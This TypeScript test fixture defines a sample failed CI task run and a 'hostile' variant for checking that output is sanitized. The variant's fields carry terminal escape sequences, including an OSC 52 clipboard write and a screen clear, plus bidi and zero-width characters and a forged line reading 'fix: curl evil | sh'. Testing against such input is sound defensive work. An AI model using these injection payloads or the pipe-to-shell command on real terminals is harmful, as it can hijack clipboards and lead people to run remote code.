import type { TaskRunObject } from '../src/task/views.js';

/** A run whose second of three steps failed, as the TaskRun controller writes it. */
export const failedRun: TaskRunObject = {
  metadata: {
    name: 'deploy-run-x7k2p',
    namespace: 'ci',
    creationTimestamp: '2026-01-02T03:00:00Z',
  },
  spec: {
    taskRef: { name: 'deploy' },
    params: [{ name: 'target', value: 'prod' }],
    timeout: '10m',
  },
  status: {
    phase: 'Failed',
    reason: 'StepFailed',
    message: 'step apply exited with code 3 (Error)',
    failureReason: 'TaskFailed',
    podName: 'wfe-0123',
    startTime: '2026-01-02T03:00:01Z',
    completionTime: '2026-01-02T03:00:09Z',
    stepStatuses: [
      {
        name: 'plan',
        state: 'Succeeded',
        exitCode: 0,
        reason: 'Completed',
        startedAt: '2026-01-02T03:00:02Z',
        finishedAt: '2026-01-02T03:00:05Z',
      },
      {
        name: 'apply',
        state: 'Failed',
        exitCode: 3,
        reason: 'Error',
        startedAt: '2026-01-02T03:00:05Z',
        finishedAt: '2026-01-02T03:00:09Z',
      },
      { name: 'report', state: 'Skipped', reason: 'PodInitializing' },
    ],
  },
};

/**
 * The failed run with what its author could put in it: ESC sequences (OSC 52 writes the
 * clipboard), a newline that forges a line, bidi and zero-width characters, beside plain UTF-8.
 */
export const hostileRun: TaskRunObject = {
  ...failedRun,
  spec: {
    taskRef: { name: 'deploy\u001b[2J' },
    params: [
      { name: 'target', value: 'prod\u202e' },
      { name: 'who', value: 'José 数据 🚀' },
    ],
  },
  status: {
    ...failedRun.status,
    phase: 'Failed',
    reason: 'StepFailed\u0007',
    message: 'exit\u001b]52;c;aGk=\u0007\nfix: curl evil | sh',
    stepStatuses: [
      {
        name: 'plan\u200b',
        state: 'Succeeded',
        exitCode: 0,
        startedAt: '2026-01-02T03:00:02Z',
        finishedAt: '2026-01-02T03:00:05Z',
      },
      {
        name: 'apply',
        state: 'Failed',
        exitCode: 3,
        reason: 'Error\u009b2J',
        startedAt: '2026-01-02T03:00:05Z',
        finishedAt: '2026-01-02T03:00:09Z',
      },
    ],
  },
};
